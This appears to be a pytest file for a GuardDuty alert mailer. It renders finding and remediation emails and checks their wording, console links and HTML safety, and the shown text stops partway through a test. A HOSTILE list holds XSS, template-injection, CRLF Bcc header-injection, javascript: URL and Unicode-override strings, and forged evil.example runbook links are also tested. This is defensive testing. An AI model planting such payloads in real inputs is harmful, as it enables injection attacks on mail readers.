"""The two mails, rendered by the mailer's own code and read as a person would read them.

Every mail is made as the mailer makes it and read back from its MIME form, so that what is checked
is what would be sent. The findings are those of tests/findings (made by hand); what the actions
leave for the remediation mail is built here.
"""

import base64
import copy
import email
import email.policy
import itertools
import json
import re
import zlib
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path

import jsonschema
import pytest
import yaml
from c7n.config import Config
from c7n.loader import PolicyLoader
from c7n_mailer.cli import CONFIG_SCHEMA

from custom_actions.headline import (
    SUBJECT,
    credential_headline,
    fate,
    remediation_headline,
    sequence_headline,
)
from mailer.accounts import Accounts
from mailer.known import Known
from mailer.message import Message
from mailer.render import Templates
from mailer.stock import Addresses
from mailer.transport import Means
from mailer.transports.smtp import Smtp

ROOT = Path(__file__).parents[2]
TEMPLATES = ROOT / "mailer" / "templates"
MAILER = yaml.safe_load((ROOT / "mailer" / "mailer.yml").read_text())
KNOWN = Known(MAILER)
ACCOUNTS = Accounts({}, None)
TRANSPORT = Smtp(
    Means(
        MAILER,
        None,
        None,
        KNOWN,
        Addresses(MAILER, None, KNOWN),
        Templates(TEMPLATES, ACCOUNTS, MAILER),
    )
)
FILE = yaml.safe_load((ROOT / "policies" / "finding-notify.yml").read_text())
(POLICY,) = copy.deepcopy(FILE)["policies"]
(LOADED,) = PolicyLoader(Config.empty(account_id="111122223333", region="us-west-2")).load_data(
    FILE, "finding-notify.yml"
)
FINDINGS = sorted((ROOT / "tests" / "findings").glob("*.json"))
FINDING_ID = "1ab2c3d4e5f60718293a4b5c6d7e8f90"
SENTENCE = (
    f"GuardDuty Finding | ID: {FINDING_ID}: The EC2 instance i-0abc1234def567890"
    " may be compromised and should be investigated"
)
REMEDIATION = (
    f"GuardDuty Remediation | ID: {FINDING_ID}: GuardDuty discovered an EC2 instance"
    " (Instance ID: i-0abc1234def567890) that is communicating outbound with an IP Address on a"
    " threat list that you uploaded. All security groups have been removed and it has been"
    " isolated. Please follow up with any additional remediation actions."
)
HOSTILE = [
    "<img src=x onerror=alert(1)><script>alert(1)</script>",
    "\"'><a href='https://evil.example'>click</a>",
    "{{7777*7777}}{% raw %}{{ config }}",
    "line one\r\nBcc: victim@example.com\nline three",
    "javascript:alert(1)//https://www.evil.example/x",
    "x" * 5000,
    "Überraschung 日本語 \u202egnp.exe \ud800 \x00\x1b[31m",
]
# All that the templates themselves use. Anything else in a mail came from a field.
TAGS = {
    "html",
    "head",
    "meta",
    "body",
    "table",
    "tr",
    "td",
    "p",
    "h2",
    "b",
    "br",
    "a",
    "div",
    "span",
}
ATTRIBUTES = {
    "lang", "charset", "name", "content", "style", "role", "width", "cellpadding", "cellspacing",
    "border", "align", "valign", "colspan", "href",
}  # fmt: skip


class Reader(HTMLParser):
    """Collects the visible text line by line, and every tag, attribute and link."""

    BLOCKS = {"p", "h2", "td", "tr", "table", "div", "br", "body"}

    def __init__(self, html):
        super().__init__()
        self.lines, self.tags, self.attributes, self.links = [""], set(), [], []
        self.feed(html)
        self.lines = [" ".join(line.split()) for line in self.lines if line.strip()]
        self.text = "\n".join(self.lines)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += attrs
        if tag in self.BLOCKS:
            self.lines.append("")
        if tag == "a":
            self.links.append([dict(attrs)["href"], ""])

    def handle_endtag(self, tag):
        if tag in self.BLOCKS:
            self.lines.append("")
        if tag == "a":
            self.lines[-1] += " "

    def handle_data(self, data):
        self.lines[-1] += data
        if self.links and self.lasttag == "a" and not self.links[-1][1]:
            self.links[-1][1] = data

    def row(self, label):
        """The value beside a label, or None when the mail has no such row."""
        return self.lines[self.lines.index(label) + 1] if label in self.lines else None


def load(name):
    """An event from tests/findings; a bare finding (as get-findings prints it) becomes an event."""

    def camel(value):
        if isinstance(value, dict):
            return {k[0].lower() + k[1:]: camel(v) for k, v in value.items()}
        return [camel(v) for v in value] if isinstance(value, list) else value

    raw = json.loads((ROOT / "tests" / "findings" / f"{name}.json").read_text())
    if "detail" in raw:
        return raw
    detail = camel(raw)
    return {"detail-type": "GuardDuty Finding", "region": detail["region"], "detail": detail}


def parcel(template, subject, event, resources, policy=POLICY):
    """What would be sent of a message."""
    data = {
        "account": "example-alias",
        "account_id": "111122223333",
        "region": "us-west-2",
        "event": event,
        "policy": policy,
        "action": {"to": ["account-emails"], "template": template, "subject": subject},
        "resources": resources,
    }
    body = base64.b64encode(zlib.compress(json.dumps(data).encode())).decode()
    (made,) = TRANSPORT.parcels(Message("1", "1", "", body, 1, 0), ["account-emails"])
    return made


def mail(template, subject, event, resources, policy=POLICY):
    """Render one mail; returns (subject, Reader) as decoded from the message that would be sent."""
    made = parcel(template, subject, event, resources, policy)
    assert made.targets == ("security@example.com",)
    (made,) = made.send.args
    mime = email.message_from_bytes(made.as_bytes(), policy=email.policy.default)
    html = mime.get_body(["html"]).get_content().replace("\r\n", "\n")
    assert len(html) < 100_000  # Gmail cuts a mail at 102 KB
    reader = Reader(html)
    assert reader.tags <= TAGS
    assert {name for name, _ in reader.attributes} <= ATTRIBUTES
    for href, text in reader.links:
        assert href == text
        assert re.match(
            r"https://console\.(aws\.amazon\.com|amazonaws\.cn|amazonaws-us-gov\.com)/", href
        )
    # Where Python folds a header before a very long word, a reader sees two blanks.
    return " ".join(mime["Subject"].split()), reader


def finding_mail(event):
    """The finding mail; its first line must be its subject."""
    event = copy.deepcopy(event)
    LOADED.resource_manager.actions[0].process([], event)
    subject = POLICY["actions"][1]["subject"]
    subject, reader = mail(
        "finding.html", subject, event, [{"account_id": "111122223333", "account_name": "example"}]
    )
    # Python loses a blank where it folds a header between two encoded words
    assert reader.lines[0].replace(" ", "") == subject.replace(" ", "")
    return subject, reader


def interface(n=0, **changes):
    return {
        "id": f"eni-{n:017x}",
        "vpc_id": "vpc-0123456789abcdef0",
        "subnet_id": "subnet-0123456789abcdef0",
        "private_ip": f"10.0.0.{10 + n}",
        "removed": [{"id": "sg-0aaaaaaaaaaaaaaa1", "name": "TargetSecurityGroup"}],
        "now": [{"id": "sg-0fffffffffffffff1", "name": "ForensicSecurityGroup"}],
        "forensic_group": "sg-0fffffffffffffff1",
        "status": "isolated",
        "error": None,
        **changes,
    }


def outcome(**changes):
    return {
        "step": "isolate-instance",
        "status": "done",
        "detail": "1 of 1 network interfaces hold only the forensic group.",
        "error": None,
        "isolated": True,
        "verified_at": "2026-11-23T09:02:14.123456+00:00",
        "interfaces": [interface()],
        **changes,
    }


def remediation_mail(
    *outcomes, headline=REMEDIATION, isolated=True, observe=False, event=None, notice=None, **ec2
):
    """The remediation mail for one instance with these outcomes; subject as ec2-isolate has it."""
    event = copy.deepcopy(event or load("ec2-malicious-ip-caller"))
    event["c7n:notice"] = {"headline": headline, "observe_only": observe, "isolated": isolated}
    event["c7n:notice"] |= notice or {}
    instance = {
        "InstanceId": "i-0abc1234def567890",
        "Tags": [{"Key": "Name", "Value": "GuardDuty-Example: Compromised Instance: Scenario 1"}],
        "c7n:response": list(outcomes),
        **ec2,
    }
    policy = {
        "name": "ec2-isolate",
        "resource": "ec2",
        "metadata": {"runbook": "docs/runbook.md"},
    }
    return mail("remediation.html", "{{ event['c7n:notice'].headline }}", event, [instance], policy)


def poison(value, text):
    """The same structure with every string replaced, but for those that choose the wording."""
    if isinstance(value, dict):
        keep = ("resourceType", "actionType", "userType", "step", "status", "type")
        return {k: v if k in keep else poison(v, text) for k, v in value.items()}
    if isinstance(value, list):
        return [poison(v, text) for v in value]
    return text if isinstance(value, str) else value


# ---- Configuration


def test_example_configuration_is_valid_for_the_mailer():
    jsonschema.validate({k: v for k, v in MAILER.items() if k != "accounts"}, CONFIG_SCHEMA)


# ---- Finding mail


@pytest.mark.parametrize("path", FINDINGS, ids=lambda p: p.stem)
def test_every_finding_makes_a_mail_that_opens_with_its_subject(path):
    event = load(path.stem)
    subject, reader = finding_mail(event)
    assert f"GuardDuty Finding | ID: {event['detail']['id']}: " in subject
    assert "should be investigated" in subject
    assert reader.row("Type") == event["detail"]["type"]


def test_scenario_says_what_where_and_what_next():
    subject, reader = finding_mail(load("ec2-malicious-ip-caller"))
    assert subject == SENTENCE
    assert reader.row("Severity") == "Medium (5 of 10)"
    assert reader.row("Account") == "111122223333 (example-alias)"
    assert reader.row("Region") == "us-west-2"
    assert reader.row("Instance") == "i-0abc1234def567890"
    assert reader.row("Name") == "GuardDuty-Example: Compromised Instance: Scenario 1"
    assert reader.row("Interface") == "eni-0000000000000000a"
    assert {"Private 10.0.0.10", "Public 198.51.100.10"} <= set(reader.lines)
    assert "vpc-0123456789abcdef0, subnet-0123456789abcdef0" in reader.text
    assert reader.row("First seen") == "2026-11-23 08:55:00 UTC"
    assert reader.row("Last seen") == "2026-11-23 09:00:00 UTC"
    assert reader.row("Seen") == "1 time"
    assert reader.row("Seen in") == "VPC Flow Logs"
    assert reader.row("Direction") == "Outbound, from the instance"
    assert reader.row("Protocol") == "ICMP"
    assert reader.row("Remote port") is None
    assert reader.row("Remote address").startswith("203.0.113.7; country: Example")
    assert reader.row("Threat list") == "GuardDuty-Example-threat-list"
    assert "ec2-isolate acts on a finding like this one: Isolate a compromised EC2" in reader.text
    assert "within 15 minutes, do it by hand: the command is below" in reader.text
    command = f"make isolate INSTANCE=i-0abc1234def567890 REGION=us-west-2 FINDING={FINDING_ID}"
    assert command in reader.lines
    console = "https://console.aws.amazon.com/ec2/home?region=us-west-2#"
    own = [
        f"{console}InstanceDetails:instanceId=i-0abc1234def567890",
        f"{console}NetworkInterface:networkInterfaceId=eni-0000000000000000a",
    ]
    assert reader.links == [
        [
            "https://console.aws.amazon.com/guardduty/home?region=us-west-2"
            f"#/findings?macros=current&fId={FINDING_ID}"
        ]
        * 2,
        *([url] * 2 for url in own),
    ]


@pytest.mark.parametrize(
    ("name", "rows"),
    [
        (
            "ec2-dns-crypto",
            {"Domain": "pool[.]example", "Seen in": "DNS logs", "Severity": "High (8 of 10)"},
        ),
        (
            "ec2-malicious-ip-caller-ipv6-only",
            {
                "Remote address": "2001:db8:ffff::7; country: Example;"
                " organisation: Example (AS64500)"
            },
        ),
        ("bare-ec2-malicious-ip-caller", {"Threat list": "GuardDuty-Example-threat-list"}),
        ("ec2-port-probe", {"Local port": "22 (SSH)", "Seen in": "VPC Flow Logs"}),
        ("ec2-ssh-brute-force-actor", {"Role": "The instance attacks", "Remote port": "22 (SSH)"}),
        (
            "ec2-ssh-brute-force-target",
            {"Role": "The instance is attacked", "Severity": "Low (2 of 10)"},
        ),
        (
            "iam-role-credential-exfiltration",
            {
                "Seen in": "CloudTrail",
                "API call": "DescribeParameters",
                "Service": "ssm.amazonaws.com",
                "Access key id": "ASIAEXAMPLEEXAMPLE01",
            },
        ),
        (
            "s3-bucket-anonymous-access",
            {"Bucket": "guardduty-example-payroll", "Public access": "PUBLIC"},
        ),
        (
            "s3-object-malicious-file",
            {
                "Object": "arn:aws:s3:::guardduty-example-payroll/inbox/invoice.zip, " + "f" * 64,
                "Threat": "EICAR-Test-File",
                "Malicious file": "invoice.exe, " + "e" * 64,
            },
        ),
        (
            "lambda-command-and-control",
            {
                "Function role": "arn:aws:iam::111122223333:role/shop-orders",
                "Direction": "Outbound",
            },
        ),
        (
            "rds-successful-login",
            {"Database user": "admin", "Database name": "orders", "Failed logins": "admin, 12"},
        ),
        (
            "eks-malicious-ip-caller",
            {
                "EKS cluster": "arn:aws:eks:us-west-2:111122223333:cluster/guardduty-example",
                "Workload": "pods, shop, web",
                "Kubernetes user": "system:serviceaccount:shop:web",
                "Container": "web, registry.example/web:1.4",
                "Kubernetes call": "list, /api/v1/namespaces/shop/secrets, 200",
            },
        ),
        (
            "ec2-malware-scan",
            {
                "Volume": "/dev/xvda, arn:aws:ec2:us-west-2:111122223333:volume/"
                "vol-0123456789abcdef0",
                "Threat": "Application.Linux.Miner, HIGH",
                "Malicious file": "tmp/.x/xmrig, " + "a" * 64,
            },
        ),
        ("unknown-severity", {"Severity": "Not stated"}),
    ],
)
def test_facts_of_each_kind_of_finding(name, rows):
    _, reader = finding_mail(load(name))
    assert {label: reader.row(label) for label in rows} == rows


@pytest.mark.parametrize(
    ("name", "who", "next_step"),
    [
        (
            "iam-role-credential-exfiltration",
            "The IAM role GuardDuty-Example-EC2-Compromised may",
            "iam-role-revoke-sessions acts on a finding like this one: Revoke the stolen sessions",
        ),
        (
            "iam-role-malicious-ip-caller",
            "The IAM role GuardDuty-Example-EC2-Compromised may",
            "by what the finding is about, is in the runbook. Decide whether the credentials",
        ),
        (
            "iam-user-malicious-ip-caller",
            "The IAM user GuardDuty-Example-Compromised-Simulated may",
            "Nothing was changed automatically, unless the opt-in policy",
        ),
        (
            "iam-role-credential-exfiltration-archived",
            "The IAM role GuardDuty-Example-EC2-Compromised may",
            "Nothing was changed automatically. iam-role-revoke-sessions leaves it alone: it is "
            "archived. The finding is archived, which usually means",
        ),
        ("rds-successful-login", "The RDS database guardduty-example-orders may", "the runbook."),
        ("lambda-command-and-control", "The Lambda function shop-orders may", ""),
        ("eks-malicious-ip-caller", "The EKS cluster guardduty-example may", ""),
        (
            "unknown-type",
            "The resource of type Mainframe may be compromised",
            "Nothing was changed",
        ),
        (
            "s3-bucket-anonymous-access",
            "GuardDuty reports Policy:S3/BucketAnonymousAccessGranted about the S3 bucket "
            "guardduty-example-payroll; it should be investigated",
            "Nothing was changed automatically.",
        ),
        (
            "s3-object-malicious-file",
            "GuardDuty reports Object:S3/MaliciousFile about the S3 object "
            "arn:aws:s3:::guardduty-example-payroll/inbox/invoice.zip; it",
            "",
        ),
    ],
)
def test_wording_fits_the_resource(name, who, next_step):
    subject, reader = finding_mail(load(name))
    assert who in subject
    assert next_step in reader.text


def sample(detail, marking):
    service = detail["service"]
    if marking == "title":
        detail["title"] = "[SAMPLE] " + detail["title"]
    elif marking == "instance":
        detail["resource"]["instanceDetails"]["instanceId"] = "i-99999999"
    elif marking == "json":
        service["additionalInfo"] = {"value": '{ "sample" : true }'}
    elif marking == "mapping":
        service["additionalInfo"] = {"value": {"sample": True}}
    else:
        service["additionalInfo"]["sample"] = marking


@pytest.mark.parametrize("marking", [True, "True", "true", "title", "instance", "json", "mapping"])
def test_sample_is_marked_in_every_way_that_guardduty_marks_it(marking):
    event = load("ec2-malicious-ip-caller")
    sample(event["detail"], marking)
    subject, reader = finding_mail(event)
    assert subject.startswith("[SAMPLE] GuardDuty Finding | ID: ")
    assert "Nothing is changed." in reader.text
    assert "by hand" not in reader.text


@pytest.mark.parametrize(
    "value", ['{"sample": false}', '{"note": "\\"sample\\":true"}', "{}", None, 7]
)
def test_a_finding_that_only_looks_like_a_sample_is_not_one(value):
    event = load("ec2-malicious-ip-caller")
    event["detail"]["service"]["additionalInfo"] = {"value": value, "sample": False}
    assert finding_mail(event)[0] == SENTENCE


def test_update_says_how_often_it_was_seen():
    subject, reader = finding_mail(load("ec2-malicious-ip-caller-update"))
    assert subject == SENTENCE + " (seen 7 times)"
    assert reader.row("Seen") == "7 times"


@pytest.mark.parametrize(
    ("severity", "words"),
    [
        (1, "Low (1 of 10)"),
        (3.9, "Low (3.9 of 10)"),
        (4, "Medium (4 of 10)"),
        (7.0, "High (7.0 of 10)"),
        (8.9, "High (8.9 of 10)"),
        (9, "Critical (9 of 10)"),
        ("5", "Medium (5 of 10)"),
        (None, "Not stated"),
        (0, "Not stated"),
        ("high", "Not stated"),
        ({}, "Not stated"),
    ],
)
def test_severity_in_words(severity, words):
    event = load("ec2-malicious-ip-caller")
    event["detail"]["severity"] = severity
    assert finding_mail(event)[1].row("Severity") == words


@pytest.mark.parametrize(
    ("service", "words"),
    [
        ({"action": {"actionType": "RDS_LOGIN_ATTEMPT"}}, "Not stated by the finding"),
        ({"featureName": "RuntimeMonitoring", "action": {"actionType": "DNS_REQUEST"}},
         "Runtime Monitoring (the GuardDuty agent on the host)"),
        ({"featureName": "EbsVolumeScan"}, "The GuardDuty feature EbsVolumeScan"),
        ({}, "Not stated by the finding"),
        (None, "Not stated by the finding"),
    ],
)  # fmt: skip
def test_data_source_is_named_only_when_it_is_known(service, words):
    event = load("ec2-malicious-ip-caller")
    event["detail"]["service"] = service
    assert finding_mail(event)[1].row("Seen in") == words


def test_what_happens_next_is_said_by_what_follows():
    """What follows which finding is for tests/finding-notify; here how it reads."""
    text = finding_mail(load("ec2-ssh-brute-force-target"))[1].text
    assert "Nothing was changed automatically. ec2-isolate leaves it alone: the resource" in text
    assert "close the port to them" in text and "GuardDuty Remediation" not in text
    text = finding_mail(load("iam-role-credential-exfiltration"))[1].text
    assert "A second mail, GuardDuty Remediation, says" in text and "already left it" in text
    assert f"make revoke-sessions REGION=us-west-2 FINDING={DENY_ID}" in text
    event = load("ec2-malicious-ip-caller")
    event["c7n:notice"] = {"headline": SENTENCE, "sample": False, "next": None}
    _, reader = mail("finding.html", SUBJECT, event, [{"account_id": "1"}])
    assert "Where a policy acts on it, a second mail, GuardDuty Remediation," in reader.text
    assert "Nothing was changed" not in reader.text


def test_a_scan_of_an_isolated_instance_is_mailed_with_its_case():
    event = load("ec2-malware-scan")
    _, reader = finding_mail(event)
    assert "This instance is in an incident, by its tags" in reader.lines
    assert "Case i-0abc1234def567890-20261123T090213. The tags of the instance" in reader.text
    assert f"say isolated, by finding {FINDING_ID}." in reader.text
    tags = event["detail"]["resource"]["instanceDetails"]["tags"]
    tags[:] = [{"key": "forensic:finding", "value": HOSTILE[0]}, 7, {"key": ["x"]}]
    text = finding_mail(event)[1].text
    assert "by its tags" in text and "Case " not in text and HOSTILE[0] in text
    tags[:] = [{"key": "Name", "value": "forensic:state"}]
    assert "by its tags" not in finding_mail(event)[1].text


def sequence(*instances, others=()):
    """A finding of an attack sequence about instances, which it names among its resources."""
    event = load("unknown-type")
    resources = [
        {"uid": uid, "resourceType": "EC2_INSTANCE", "accountId": "111122223333"}
        for uid in instances
    ]
    event["detail"] |= {
        "type": "AttackSequence:EC2/CompromisedInstanceGroup",
        "severity": 9.0,
        "resource": {"resourceType": "AttackSequence"},
    }
    event["detail"]["service"]["detection"] = {
        "sequence": {
            "uid": "s",
            "description": "d",
            "resources": [*resources, *others],
            "signals": [
                {"uid": "g", "type": "FINDING", "name": "Trojan:EC2/Blackhole", "count": 4}
            ],
            "actors": [{"id": "a", "user": {"name": "web"}, "process": {"path": "/tmp/x"}}],
            "endpoints": [{"id": "e", "ip": "203.0.113.7", "domain": "pool.evil.example"}],
        }
    }
    return event


def test_slack_says_how_bad_it_is_who_follows_and_the_case():
    def attachment(event):
        event = copy.deepcopy(event)
        LOADED.resource_manager.actions[0].process([], event)
        data = {"account_id": "1", "region": "us-west-2", "event": event, "policy": POLICY}
        text = Templates(TEMPLATES, ACCOUNTS, MAILER).render("slack", data, [], "#x")
        (made,) = json.loads(text)["attachments"]
        return made["text"]

    failed = outcome(isolated=False, status="failed", error="AccessDenied: <no> " + "x" * 400)
    data = {"account_id": "1", "region": "us-west-2", "policy": POLICY, "event": {"detail": {}}}
    resources = [{"InstanceId": "i-1", "c7n:response": [failed]}]
    text = Templates(TEMPLATES, ACCOUNTS, MAILER).render("slack", data, resources, "#x")
    (made,) = json.loads(text)["attachments"]
    assert ". isolate-instance: AccessDenied: &lt;no&gt; xx" in made["text"]
    assert len(made["text"]) < 400

    known = attachment(load("ec2-malicious-ip-caller"))
    assert known.endswith("policy finding-notify, severity 5. Followed by: ec2-isolate")
    scan = attachment(load("ec2-malware-scan"))
    assert "severity 8. Nothing is changed automatically. Case, by its tags: i-0abc1234de" in scan
    assert "Nothing" not in attachment(load("ec2-malicious-ip-caller-sample"))


def test_an_attack_sequence_names_its_instances_and_signals_a_few_of_many():
    arn = "arn:aws:ec2:us-west-2:111122223333:instance/"
    ids = [f"i-{number:017x}" for number in range(25)]
    bucket = {"uid": "arn:aws:s3:::payroll", "name": "payroll", "resourceType": "S3_BUCKET"}
    subject, reader = finding_mail(sequence(*(arn + one for one in ids), others=[bucket]))
    assert (
        f"The EC2 instances {ids[0]}, {ids[1]}, {ids[2]} and 22 more may be compromised" in subject
    )
    instances = reader.lines[reader.lines.index("Instances") + 1 :][:11]
    assert instances == [*ids[:10], "and 15 more"]
    assert sum(line.startswith("make isolate INSTANCE=i-") for line in reader.lines) == 3
    assert reader.row("Signal, times") == "Trojan:EC2/Blackhole, 4"
    assert reader.row("Resource") == "S3_BUCKET, payroll, arn:aws:s3:::payroll"
    assert reader.row("Actor") == "web, /tmp/x"
    assert reader.row("Endpoint") == "203.0.113.7"
    assert reader.row("Domains") == "pool[.]evil[.]example"
    assert f"instance {ids[1]} may" in finding_mail(sequence(ids[1], "x", 7))[0]
    assert "The S3 bucket payroll may" in finding_mail(sequence(others=[bucket]))[0]
    assert "The account 111122223333 may" in finding_mail(sequence())[0]


def in_a_container():
    """A finding of Runtime Monitoring about a process in a pod on an instance."""
    event = load("eks-malicious-ip-caller")
    event["detail"]["type"] = "Execution:Runtime/ReverseShell"
    instance = load("ec2-malicious-ip-caller")["detail"]["resource"]["instanceDetails"]
    event["detail"]["resource"]["instanceDetails"] = instance
    shell = {"name": "sh", "executablePath": "/bin/sh", "pid": 42}
    event["detail"]["service"]["runtimeDetails"] = {
        "process": {**shell, "executableSha256": "c" * 64, "lineage": [shell] * 30},
        "context": {"targetProcess": shell, "scriptPath": "/tmp/x.sh", "toolName": "t"},
    }
    return event


def test_a_process_on_the_node_of_a_cluster():
    subject, reader = finding_mail(in_a_container())
    assert "EKS cluster guardduty-example (EC2 instance i-0abc1234def567890) may be" in subject
    rows = {"Process": "/bin/sh", "Its SHA-256": "c" * 64, "File": "/tmp/x.sh", "Tool": "t"}
    assert {label: reader.row(label) for label in rows} == rows
    assert reader.row("Started by") == "/bin/sh, 42"
    assert reader.row("Instance") == "i-0abc1234def567890"
    assert "make isolate INSTANCE=i-0abc1234def567890" in reader.text


@pytest.mark.parametrize(
    ("partition", "region", "host"),
    [
        ("aws-cn", "cn-north-1", "console.amazonaws.cn"),
        ("aws-us-gov", "us-gov-west-1", "console.amazonaws-us-gov.com"),
        (None, "us-gov-west-1", "console.amazonaws-us-gov.com"),
    ],
)
def test_console_link_fits_the_partition(partition, region, host):
    event = load("ec2-malicious-ip-caller")
    event["detail"] |= {"partition": partition, "region": region}
    (href, _), *others = finding_mail(event)[1].links
    assert href.startswith(f"https://{host}/guardduty/home?region={region}#/findings?")
    assert len(others) == 2
    for href, _ in others:
        assert href.startswith(f"https://{host}/ec2/home?region={region}#")


def test_finding_id_is_percent_encoded_in_the_link():
    event = load("ec2-malicious-ip-caller")
    event["detail"]["id"] = 'a/b&c="d" <e>\'?x=ü'
    (href, _), *_ = finding_mail(event)[1].links
    assert href.endswith("&fId=a%2Fb%26c%3D%22d%22%20%3Ce%3E%27%3Fx%3D%C3%BC")


def paths(value, path=()):
    """Every path to a value below detail, containers included."""
    if path:
        yield path
    items = value.items() if isinstance(value, dict) else enumerate(value)
    for key, item in items:
        if isinstance(item, dict | list):
            yield from paths(item, (*path, key))
        else:
            yield (*path, key)


OTHERS = ["s3-object-malicious-file", "ec2-malware-scan", "rds-successful-login"]
MISSHAPEN = ["ec2-malicious-ip-caller-multi-eni", "iam-role-credential-exfiltration"]
MISSHAPEN += ["ec2-port-probe"]


def new_paths(name):
    """The paths of a finding that no finding before it has; of a list's entries those of one."""
    seen, new = set(), []
    for earlier in MISSHAPEN[: MISSHAPEN.index(name) + 1]:
        for path in paths(load(earlier)["detail"]):
            alike = tuple("*" if isinstance(key, int) else key for key in path)
            if alike not in seen and earlier == name:
                new.append(path)
            seen.add(alike)
    return new


@pytest.mark.parametrize("name", MISSHAPEN)
@pytest.mark.parametrize("wrong", [None, "text", [], {"a": "b"}], ids=repr)
def test_no_missing_or_misshapen_field_stops_a_mail(name, wrong):
    event = load(name)
    for path in new_paths(name):
        broken = copy.deepcopy(event)
        *parents, last = path
        holder = broken["detail"]
        for key in parents:
            holder = holder[key]
        holder[last] = copy.deepcopy(wrong)
        subject, _ = finding_mail(broken)
        assert "should be investigated" in subject


def misshapen(value, depth, wrong):
    """The same structure with everything at a depth replaced."""
    if depth == 0:
        return copy.deepcopy(wrong)
    if isinstance(value, dict):
        return {key: misshapen(inner, depth - 1, wrong) for key, inner in value.items()}
    return [misshapen(one, depth - 1, wrong) for one in value] if isinstance(value, list) else value


@pytest.mark.parametrize("wrong", [None, "text", [[7]]], ids=repr)
def test_nothing_misshapen_at_any_depth_stops_a_mail_about_another_resource(wrong):
    for event in (in_a_container(), sequence("i-0abc1234def567890"), *map(load, OTHERS)):
        for depth in range(2, 9):
            broken = event | {"detail": misshapen(event["detail"], depth, wrong)}
            assert "should be investigated" in finding_mail(broken)[0]


def test_instance_without_details():
    event = load("ec2-malicious-ip-caller")
    event["detail"] |= {
        "id": None,
        "resource": {"resourceType": "Instance", "instanceDetails": None},
    }
    subject, reader = finding_mail(event)
    assert subject == (
        "GuardDuty Finding | ID: (none): The EC2 instance (not named)"
        " may be compromised and should be investigated"
    )
    assert "the finding names no instance. Look the instance up in the" in reader.text
    assert "GuardDuty Remediation" not in reader.text


@pytest.mark.parametrize("text", HOSTILE, ids=lambda t: ascii(t[:20]))
@pytest.mark.parametrize(
    "name",
    [
        "ec2-malicious-ip-caller-multi-eni",
        "iam-user-malicious-ip-caller",
        "ec2-dns-crypto",
        "ec2-port-probe",
        "s3-object-malicious-file",
        "ec2-malware-scan",
        "unknown-type",
        in_a_container,
        sequence,
    ],
)
def test_hostile_fields_stay_text(name, text):
    event = load(name) if isinstance(name, str) else name()
    event["detail"] = poison(event["detail"], text)
    subject, reader = finding_mail(event)
    assert len(subject) < 400
    assert subject.isprintable()
    for word in ("60481729", "https://www.evil", "\u202e", "\x1b"):
        # 60481729 is the product; a bare web address would be made clickable by the mail program
        assert word not in reader.text.split("In the console")[0]
    assert max(len(line) for line in reader.lines) < 1500


def test_hostile_name_is_shown_as_written():
    event = load("ec2-malicious-ip-caller")
    event["detail"]["resource"]["instanceDetails"]["tags"][0]["value"] = HOSTILE[0]
    assert finding_mail(event)[1].row("Name") == HOSTILE[0]
    event["detail"]["resource"]["instanceDetails"]["tags"][0]["value"] = "x" * 5000
    assert finding_mail(event)[1].row("Name") == "x" * 300 + " … (cut)"


def test_many_tags_and_interfaces():
    event = load("ec2-malicious-ip-caller")
    details = event["detail"]["resource"]["instanceDetails"]
    details["networkInterfaces"] *= 15
    details["tags"] = [{"key": f"k{n}", "value": "v"} for n in range(39)] + details["tags"]
    _, reader = finding_mail(event)
    assert reader.row("Interface 15") == "eni-0000000000000000a"
    assert reader.row("Name").startswith("GuardDuty-Example")


# ---- What a responder asks next: where to read on, how long it took, whom to call

RUNBOOK_URL = "https://git.example.com/pack/docs/runbook.md"


def rendered(name, event, resources, mailed=None, **policy):
    templates = Templates(TEMPLATES, ACCOUNTS, MAILER | {"runbook_url": RUNBOOK_URL})
    data = {"account_id": "111122223333", "region": "us-west-2", "event": event}
    data["policy"] = {"name": "p", "metadata": {"runbook": "docs/runbook.md#guard-e-mail"}} | policy
    return Reader(templates.render(name, data, resources, [], mailed))


@pytest.mark.parametrize(
    "outcomes, notice, section",
    [
        ([outcome()], {"isolated": True}, "6-how-do-i-investigate"),
        (
            [outcome(), {"step": "x", "status": "failed"}],
            {"isolated": True},
            "5-it-was-not-isolated-or-not-everything-was-done-what-now",
        ),
        (
            [outcome(isolated=False, status="failed")],
            {},
            "5-it-was-not-isolated-or-not-everything-was-done-what-now",
        ),
        (
            [outcome(isolated=False, status="withheld", withheld="brake")],
            {},
            "1-which-mail-did-i-get",
        ),
        (
            [outcome(isolated=False, status="planned")],
            {"observe_only": True},
            "1-which-mail-did-i-get",
        ),
    ],
)
def test_the_runbook_is_linked_at_the_section_that_fits_the_outcome(outcomes, notice, section):
    event = {"detail": {}, "c7n:notice": notice}
    instance = {"InstanceId": "i-1", "c7n:response": outcomes}

    reader = rendered("remediation.html", event, [instance])

    assert [href for href, _ in reader.links if href.startswith(RUNBOOK_URL)] == [
        f"{RUNBOOK_URL}#{section}"
    ]


def test_every_section_that_a_mail_leads_to_is_in_the_runbook():
    titles = re.findall(r"^#+ (.*)", (ROOT / "docs/runbook.md").read_text(), re.MULTILINE)
    anchors = {re.sub(r"[^\w -]", "", title).lower().replace(" ", "-") for title in titles}
    named = re.compile(r"'(\d-[a-z-]+|[a-z]+(?:-[a-z]+)*-e-mail|an-attack-sequence)'")
    linked = {s for path in TEMPLATES.glob("*.j2") for s in named.findall(path.read_text())}
    assert len(linked) >= 5 and linked <= anchors


def test_a_policys_own_address_is_linked_on_our_host_and_no_section_of_a_forger_leaves_the_page():
    own = {"metadata": {"runbook": "https://wiki.example.com/x"}}
    reader = rendered("guard.html", {"detail": {}}, [], **own)
    assert not reader.links and "https[:]//wiki.example.com/x" in reader.text
    own["metadata"]["runbook"] = "https://git.example.com/x"  # where runbook_url is
    reader = rendered("guard.html", {"detail": {}}, [], **own)
    assert reader.links == [["https://git.example.com/x"] * 2]
    for forged in ("https://git.example.com.evil.example/", "\ud800http://evil.example/#z"):
        policy, account = {"metadata": {"runbook": forged}}, [{"account_id": "1"}]
        _, reader = mail("guard.html", "s", {"detail": {}}, account, policy)
        assert not reader.links and "[:]//" in reader.text
    forged = {"metadata": {"runbook": 'docs/runbook.md#"><b>x/../@evil.example'}}
    reader = rendered("guard.html", {"detail": {}}, [], **forged)
    assert [f"{RUNBOOK_URL}#bxevilexample"] * 2 in reader.links


DAY = "2026-11-23T"


@pytest.mark.parametrize(
    "detected, received, isolated, spans",
    [
        (
            f"{DAY}09:02:00Z",
            f"{DAY}09:02:01.5+00:00",
            f"{DAY}09:02:03Z",
            ["1.5 s", "1.5 s", "7.0 s"],
        ),
        # in UTC, whatever zone; longer spans in longer units
        (
